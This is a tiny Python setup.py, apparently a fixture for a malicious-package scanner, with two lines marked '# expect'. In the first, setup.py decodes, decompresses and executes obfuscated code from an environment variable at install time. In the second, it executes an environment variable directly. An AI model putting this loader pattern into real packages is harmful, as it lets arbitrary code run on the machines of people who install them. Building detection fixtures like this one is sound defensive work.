# file: setup.py
import base64
import os
import zlib

from setuptools import setup

exec(zlib.decompress(base64.b64decode(os.environ.get("SAMPLE_STAGE", ""))))  # expect
exec(os.environ["SAMPLE_HOOK"])  # expect
setup(name="sample")
